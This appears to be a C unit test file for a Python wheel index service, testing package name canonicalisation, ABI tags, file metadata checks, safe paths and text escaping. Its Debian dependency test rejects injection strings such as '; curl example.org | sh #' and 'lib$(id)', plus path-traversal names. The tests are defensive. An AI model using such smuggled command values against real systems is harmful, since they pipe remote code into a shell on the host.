/* Package names, aliases, ABI tags, the check of what is said of a file, paths and texts of the site. */
#include "shared/abi.h"
#include "shared/file_check.h"
#include "shared/names.h"
#include "shared/site_path.h"
#include "shared/text.h"

#include "db.piw.h"
#include "unit.h"

#include <stdio.h>
#include <stdlib.h>

static const char *canonical(const char *spelling)
{
    static char to[PIW_NAME_MAX + 1];
    return piw_name_canonical(piw_text_of(spelling), to) ? to : NULL;
}

START_TEST(names_become_canonical)
{
    ck_assert_str_eq(canonical("Django"), "django");
    ck_assert_str_eq(canonical("Gold.Pure"), "gold-pure");
    ck_assert_str_eq(canonical("a--_..b"), "a-b");
    ck_assert_str_eq(canonical("zope.interface_x-y"), "zope-interface-x-y");
    ck_assert_str_eq(canonical("3to2"), "3to2");
    ck_assert_str_eq(canonical("A"), "a");
}
END_TEST

START_TEST(what_is_no_name_is_refused)
{
    static const char *const bad[] = {"",     ".",      "..",  "-a",       "a-",   "a/b",
                                      "../a", "a\001b", "a b", "\xc3\xa4", "a\nb", ".hidden"};
    for (size_t i = 0; i < PIW_COUNT(bad); i++)
        ck_assert_msg(canonical(bad[i]) == NULL, "\"%s\" was taken", bad[i]);
    char longest[PIW_NAME_MAX + 2];
    memset(longest, 'a', sizeof(longest));
    longest[PIW_NAME_MAX] = '\0';
    ck_assert_ptr_nonnull(canonical(longest));
    longest[PIW_NAME_MAX] = 'a';
    longest[PIW_NAME_MAX + 1] = '\0';
    ck_assert_ptr_null(canonical(longest));
    /* A NUL inside of a counted text. */
    char to[PIW_NAME_MAX + 1];
    ck_assert(!piw_name_canonical((piw_text){"a\0b", 3}, to));
}
END_TEST

START_TEST(aliases_lead_to_their_package_only)
{
    ck_assert(piw_alias_valid(piw_text_of("Gold.Pure"), piw_text_of("gold-pure")));
    ck_assert(!piw_alias_valid(piw_text_of("gold-pure"), piw_text_of("gold-pure")));
    ck_assert(!piw_alias_valid(piw_text_of("../gold-pure"), piw_text_of("gold-pure")));
    ck_assert(!piw_alias_valid(piw_text_of("silver"), piw_text_of("gold-pure")));
    ck_assert(piw_name_is_canonical(piw_text_of("gold-pure")));
    ck_assert(!piw_name_is_canonical(piw_text_of("Gold-pure")));
    ck_assert(!piw_name_is_canonical(piw_text_of("gold--pure")));
}
END_TEST

START_TEST(abis_come_in_the_order_of_interpreters)
{
    static const char *const order[] = {"cp27mu", "cp34m", "cp39", "cp310", "cp311", "cp313", "cp313t", "pp39"};
    for (size_t i = 0; i < PIW_COUNT(order); i++) {
        for (size_t k = 0; k < PIW_COUNT(order); k++) {
            int found = piw_abi_compare(piw_text_of(order[i]), piw_text_of(order[k]));
            ck_assert_msg((i > k) - (i < k) == (found > 0) - (found < 0), "%s and %s", order[i], order[k]);
        }
    }
    ck_assert(piw_abi_acceptable(piw_text_of("cp311")));
    ck_assert(!piw_abi_acceptable(piw_text_of("none")));
    ck_assert(!piw_abi_acceptable(piw_text_of("abi3")));
    ck_assert(!piw_abi_acceptable(piw_text_of("abi3t")));
    ck_assert(!piw_abi_acceptable(piw_text_of("cp310.cp311")));
    static const char *const typed[] = {"cp311", "cp313t", "pypy310_pp73", "graalpy312_graalpy250_312_native",
                                        "cp27mu"};
    for (size_t i = 0; i < PIW_COUNT(typed); i++)
        ck_assert_msg(piw_abi_typed(piw_text_of(typed[i])), "%s", typed[i]);
    static const char *const mistyped[] = {"",     "none",  "abi3", "py3",    "py311",  "abi4",   "311",
                                           "3.11", "CP311", "cp",   "_cp311", "c_p311", "cp311;", "cp311M"};
    for (size_t i = 0; i < PIW_COUNT(mistyped); i++)
        ck_assert_msg(!piw_abi_typed(piw_text_of(mistyped[i])), "%s", mistyped[i]);
    ck_assert(!piw_abi_acceptable(piw_text_of("")));
    ck_assert(!piw_abi_acceptable(piw_text_of("cp/311")));
}
END_TEST

START_TEST(pure_wheels_by_their_interpreters)
{
    static const struct {
        const char *abi, *interpreters;
        bool takes;
    } cases[] = {
        {"cp311", "py3", true},
        {"cp311", "py2.py3", true},
        {"cp311", "py2", false},
        {"cp311", "py30", true},
        {"cp311", "py311", true},
        {"cp311", "py312", false},
        {"cp311", "cp311", true},
        {"cp311", "cp310", false},
        {"cp311", "cp3", false},
        {"cp311", "cp310.cp311", true},
        {"cp311", "py03", false},
        {"cp311", "py3011", false},
        {"cp311", "py3x", false},
        {"cp311", "pp311", false},
        {"cp311", "", false},
        {"cp311", "...", false},
        {"cp313t", "cp313", true},
        {"cp313t", "py39", true},
        {"cp27mu", "py2", true},
        {"cp27mu", "py27", true},
        {"cp27mu", "py3", false},
        {"pypy310_pp73", "py3", true},
        {"pypy310_pp73", "pp310", true},
        {"pypy310_pp73", "pp3", true},
        {"pypy310_pp73", "pp39", false},
        {"pypy310_pp73", "cp310", false},
        {"pypy310_pp73", "py311", false},
        {"graalpy250_310", "py3", true},
        {"graalpy250_310", "py310", false},
        {"cp3", "py3", true},
        {"cp3", "py30", false},
        {"", "py3", true},
    };
    for (size_t i = 0; i < PIW_COUNT(cases); i++)
        ck_assert_msg(piw_abi_takes_pure(piw_text_of(cases[i].abi), piw_text_of(cases[i].interpreters)) ==
                          cases[i].takes,
                      "%s on %s", cases[i].interpreters, cases[i].abi);
}
END_TEST

/* --- What is said of a file --- */

static file_state good_file(void)
{
    return (file_state){
        .filename = piw_text_of("Gold.Pure-1.2-cp311-cp311-linux_armv7l.whl"),
        .filesize = 1220,
        .filehash = piw_text_of("4ba2136a5bc66d60f3d9c45ae6dda132465e5c4f759b80b73b700b5c7faccd68"),
        .package_tag = piw_text_of("Gold.Pure"),
        .package_version_tag = piw_text_of("1.2"),
        .py_version_tag = piw_text_of("cp311"),
        .abi_tag = piw_text_of("cp311"),
        .platform_tag = piw_text_of("linux_armv7l"),
        .location = piw_text_of("/simple"),
    };
}

static bool passes(const file_state *file, const char *word)
{
    piw_err err = {0};
    int rc = piw_file_check(file, piw_text_of("gold-pure"), &err);
    if (rc != 0 && word != NULL)
        ck_assert_msg(strstr(err.text, word) != NULL, "\"%s\" says nothing of \"%s\"", err.text, word);
    return rc == 0;
}

START_TEST(a_good_file_passes)
{
    file_state file = good_file();
    ck_assert(passes(&file, NULL));
    file.requires_python = piw_text_of(">=3.7");
    ck_assert(passes(&file, NULL));
}
END_TEST

START_TEST(each_bad_field_is_refused_by_name)
{
    file_state file = good_file();
    file.filesize = 0;
    ck_assert(!passes(&file, "size"));
    file.filesize = 2147483648;
    ck_assert(!passes(&file, "size"));
    file = good_file();
    file.filehash = piw_text_of("4BA2");
    ck_assert(!passes(&file, "hash"));
    file = good_file();
    file.abi_tag = piw_text_of("cp39");
    ck_assert(!passes(&file, "abi_tag"));
    file = good_file();
    file.location = piw_text_of("/other");
    ck_assert(!passes(&file, "location"));
    file = good_file();
    file.filename = piw_text_of("../Gold.Pure-1.2-cp311-cp311-linux_armv7l.whl");
    ck_assert(!passes(&file, "dot"));
    file = good_file();
    file.filename = piw_text_of("silver-1.2-cp311-cp311-linux_armv7l.whl");
    ck_assert(!passes(&file, "silver"));
}
END_TEST

START_TEST(apt_dependencies_are_names_of_debian)
{
    static const char *const good[] = {"libc6", "zlib1g", "libstdc++6", "libglib2.0-0", "libbar2:armhf", "7zip"};
    static const char *const bad[] = {"",          "a",        "; curl example.org | sh #",
                                      "-y",        "libx;",    "Libc6",
                                      "a b",       "lib$(id)", "libc6:",
                                      "libc6:a:b", "../x1",    "libf\xc3\xbc"};
    for (size_t i = 0; i < PIW_COUNT(good); i++)
        ck_assert_msg(piw_name_is_debian(piw_text_of(good[i])), "%s", good[i]);
    for (size_t i = 0; i < PIW_COUNT(bad); i++)
        ck_assert_msg(!piw_name_is_debian(piw_text_of(bad[i])), "%s", bad[i]);
    piw_protocol_use(&db_protocol_def);
    db_PROJECT *unused;
    piw_msg *msg = db_PROJECT_new(&unused);
    file_state file = good_file();
    piw_text name = piw_text_of("; curl example.org | sh #");
    piw_msg_list(msg, &file.dependencies, 1);
    file.dependencies.at[0].key = piw_text_of("apt");
    file.dependencies.at[0].value.count = 1;
    file.dependencies.at[0].value.at = &name;
    ck_assert(!passes(&file, "Debian"));
    file.dependencies.at[0].key = piw_text_of("");
    ck_assert(passes(&file, NULL));
    piw_msg_free(&msg);
}
END_TEST

START_TEST(dependencies_are_bounded)
{
    file_state file = good_file();
    piw_text names[1] = {piw_text_of("libgold1")};
    piw_protocol_use(&db_protocol_def);
    db_PROJECT *unused;
    piw_msg *msg = db_PROJECT_new(&unused);
    piw_msg_list(msg, &file.dependencies, 1);
    file.dependencies.at[0].key = piw_text_of("apt");
    file.dependencies.at[0].value.count = 1;
    file.dependencies.at[0].value.at = names;
    ck_assert(passes(&file, NULL));
    file.dependencies.at[0].key = piw_text_of("npm");
    ck_assert(!passes(&file, "npm"));
    file.dependencies.at[0].key = piw_text_of("");
    names[0] = piw_text_of("lib\ngold");
    ck_assert(!passes(&file, "dependency"));
    piw_msg_free(&msg);
}
END_TEST

START_TEST(a_name_twice_in_a_build_is_refused)
{
    file_state files[2] = {good_file(), good_file()};
    ck_assert_int_eq(piw_files_check(files, 1, piw_text_of("gold-pure"), piw_text_of("1.2.0"), NULL), 0);
    ck_assert_int_ne(piw_files_check(files, 2, piw_text_of("gold-pure"), piw_text_of("1.2.0"), NULL), 0);
    piw_err err = {0};
    ck_assert_int_eq(piw_files_check(files, 1, piw_text_of("gold-pure"), piw_text_of("1.2.99"), &err), PIW_EINVAL);
    ck_assert_msg(strstr(err.text, "version 1.2, not of 1.2.99") != NULL, "%s", err.text);
    ck_assert_int_eq(piw_files_check(files, 1, piw_text_of("gold-pure"), (piw_text){0}, NULL), 0);
    files[0].filename = piw_text_of("gold.pure-2004d_x-cp311-cp311-linux_armv7l.whl");
    files[0].package_tag = piw_text_of("gold.pure");
    files[0].package_version_tag = piw_text_of("2004d_x");
    err = (piw_err){0};
    ck_assert_int_eq(piw_files_check(files, 1, piw_text_of("gold-pure"), piw_text_of("2004d-x"), &err), PIW_EINVAL);
    ck_assert_msg(strstr(err.text, "PEP 440") != NULL, "%s", err.text);
}
END_TEST

/* --- Paths --- */

START_TEST(paths_are_made_of_safe_parts_only)
{
    char path[PIW_PATH_MAX];
    ck_assert(piw_path_simple(path, "/var/www", piw_text_of("gold"), piw_text_of("a.whl")));
    ck_assert_str_eq(path, "/var/www/simple/gold/a.whl");
    ck_assert(piw_path_log(path, "/w", 123400056789));
    ck_assert_str_eq(path, "/w/logs/1234/0005/6789.txt.gz");
    ck_assert(piw_path_staged(path, "/w", 7, piw_text_of("record")));
    ck_assert_str_eq(path, "/w/.staging/000000000007/record");
    ck_assert(!piw_path_simple(path, "/w", piw_text_of("../gold"), (piw_text){0}));
    ck_assert(!piw_path_simple(path, "/w", piw_text_of("gold"), piw_text_of("../a.whl")));
    ck_assert(!piw_path_simple(path, "/w", piw_text_of("gold"), piw_text_of(".a.whl")));
    ck_assert(!piw_path_simple(path, "/w", piw_text_of("gold"), piw_text_of("")));
    ck_assert(!piw_path_log(path, "/w", 0));
    ck_assert(!piw_path_log(path, "/w", 1000000000000));
    ck_assert(!piw_path_project(path, "/w", piw_text_of("..")));
    static const char *const good[] = {"feeds/new.atom", "feeds/a/b/c/d.json", "project/gold/feed.atom"};
    static const char *const bad[] = {"",
                                      "feeds",
                                      "feeds/",
                                      "feeds//x",
                                      "feeds/.x",
                                      "feeds/a/../x",
                                      "feeds/a/b/c/d/e",
                                      "/feeds/x",
                                      "index.html",
                                      "simple/gold/feed.atom",
                                      "project/gold/index.html",
                                      "project/Gold/feed.atom",
                                      "project/gold/json/feed.atom",
                                      "project/feed.atom",
                                      "feeds/x\n",
                                      "feeds/x/",
                                      "Feeds/x"};
    for (size_t i = 0; i < PIW_COUNT(good); i++)
        ck_assert_msg(piw_path_plugin(path, "/w", piw_text_of(good[i])), "%s", good[i]);
    ck_assert_str_eq(path, "/w/project/gold/feed.atom");
    for (size_t i = 0; i < PIW_COUNT(bad); i++)
        ck_assert_msg(!piw_path_plugin(path, "/w", piw_text_of(bad[i])), "%s", bad[i]);
    ck_assert(!piw_path_plugin(path, "/w", (piw_text){0}));
    char name[300];
    memset(name, 'a', sizeof(name));
    ck_assert(piw_path_simple(path, "/w", piw_text_of("gold"), (piw_text){name, 255}));
    ck_assert(!piw_path_simple(path, "/w", piw_text_of("gold"), (piw_text){name, 256}));
    ck_assert(!piw_path_metadata(path, "/w", piw_text_of("gold"), (piw_text){name, 247}));
}
END_TEST

/* --- Texts --- */

static const char *filled(void (*put)(piw_buffer *, piw_text), const char *s, size_t len)
{
    static char text[4096];
    piw_buffer buffer = {0};
    put(&buffer, (piw_text){s, (uint32_t)len});
    ck_assert_uint_lt(buffer.len, sizeof(text));
    memcpy(text, buffer.data == NULL ? (const uint8_t *)"" : buffer.data, buffer.len);
    text[buffer.len] = '\0';
    piw_buffer_fini(&buffer);
    return text;
}

START_TEST(texts_are_escaped_for_where_they_go)
{
    ck_assert_str_eq(filled(piw_put_html, "<a href=\"x\">'&", 14), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;");
    ck_assert_str_eq(filled(piw_put_html, "a\001b", 3), "a\xef\xbf\xbd"
                                                        "b");
    ck_assert_str_eq(filled(piw_put_json, "a\"\\\n\x01", 5), "\"a\\\"\\\\\\n\\u0001\"");
    ck_assert_str_eq(filled(piw_put_json, "\xe2\x9c\x93", 3), "\"\\u2713\"");
    ck_assert_str_eq(filled(piw_put_json, "\xf0\x9f\x90\x8d", 4), "\"\\ud83d\\udc0d\"");
    ck_assert_str_eq(filled(piw_put_json,
                            "a\xff"
                            "b\xc3\xa4",
                            5),
                     "\"a\\ufffdb\\u00e4\"");
    ck_assert_str_eq(filled(piw_put_json, NULL, 0), "null");
    ck_assert_str_eq(filled(piw_put_url, "a b/c+1!2", 9), "a%20b%2Fc+1!2");
}
END_TEST

START_TEST(stored_texts_lose_control_characters)
{
    piw_protocol_use(&db_protocol_def);
    db_PROJECT *unused;
    piw_msg *msg = db_PROJECT_new(&unused);
    piw_text clean = piw_text_clean(msg, (piw_text){"a\x00\x0b\x7f\t\n\f\rz", 9});
    ck_assert_str_eq(clean.s, "a\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\t\n\f\rz");
    ck_assert_uint_eq(clean.len, strlen(clean.s));
    piw_text same = piw_text_of("nothing to do");
    ck_assert_ptr_eq(piw_text_clean(msg, same).s, same.s);
    piw_msg_free(&msg);
}
END_TEST

START_TEST(long_texts_end_in_an_ellipsis)
{
    piw_protocol_use(&db_protocol_def);
    db_PROJECT *unused;
    piw_msg *msg = db_PROJECT_new(&unused);
    ck_assert_str_eq(piw_text_cut(msg, piw_text_of("abcdef"), 4).s, "abc\xe2\x80\xa6");
    ck_assert_str_eq(piw_text_cut(msg, piw_text_of("abcd"), 4).s, "abcd");
    /* Characters count, not bytes. */
    ck_assert_str_eq(piw_text_cut(msg, piw_text_of("\xc3\xa4\xc3\xb6\xc3\xbc!"), 4).s, "\xc3\xa4\xc3\xb6\xc3\xbc!");
    ck_assert_str_eq(piw_text_cut(msg, piw_text_of("\xc3\xa4\xc3\xb6\xc3\xbc!?"), 4).s,
                     "\xc3\xa4\xc3\xb6\xc3\xbc\xe2\x80\xa6");
    piw_msg_free(&msg);
}
END_TEST

START_TEST(values_are_printed_for_people)
{
    char to[64];
    ck_assert_str_eq(piw_size_print(999, to, sizeof(to)), "999 bytes");
    ck_assert_str_eq(piw_size_print(26373, to, sizeof(to)), "26 KB");
    ck_assert_str_eq(piw_size_print(1234567, to, sizeof(to)), "1.2 MB");
    ck_assert_str_eq(piw_size_print(999999, to, sizeof(to)), "1.0 MB");
    ck_assert_str_eq(piw_duration_print((piw_duration){0, 3723, 0}, to, sizeof(to)), "1h 2m 3s");
    ck_assert_str_eq(piw_duration_print((piw_duration){0, 4, 250000}, to, sizeof(to)), "4.2s");
    ck_assert_str_eq(piw_time_print((piw_time){1700000000000000, 0}, to, sizeof(to)), "2023-11-14 22:13:20");
    ck_assert_str_eq(piw_time_print((piw_time){-1, 0}, to, sizeof(to)), "1969-12-31 23:59:59");
}
END_TEST

Suite *unit_suite(void)
{
    Suite *suite = suite_create("names");
    TCase *names = tcase_create("names");
    tcase_add_test(names, names_become_canonical);
    tcase_add_test(names, what_is_no_name_is_refused);
    tcase_add_test(names, aliases_lead_to_their_package_only);
    tcase_add_test(names, abis_come_in_the_order_of_interpreters);
    tcase_add_test(names, pure_wheels_by_their_interpreters);
    suite_add_tcase(suite, names);
    TCase *files = tcase_create("files");
    tcase_add_test(files, a_good_file_passes);
    tcase_add_test(files, each_bad_field_is_refused_by_name);
    tcase_add_test(files, dependencies_are_bounded);
    tcase_add_test(files, apt_dependencies_are_names_of_debian);
    tcase_add_test(files, a_name_twice_in_a_build_is_refused);
    suite_add_tcase(suite, files);
    TCase *texts = tcase_create("texts");
    tcase_add_test(texts, paths_are_made_of_safe_parts_only);
    tcase_add_test(texts, texts_are_escaped_for_where_they_go);
    tcase_add_test(texts, stored_texts_lose_control_characters);
    tcase_add_test(texts, long_texts_end_in_an_ellipsis);
    tcase_add_test(texts, values_are_printed_for_people);
    suite_add_tcase(suite, texts);
    return suite;
}
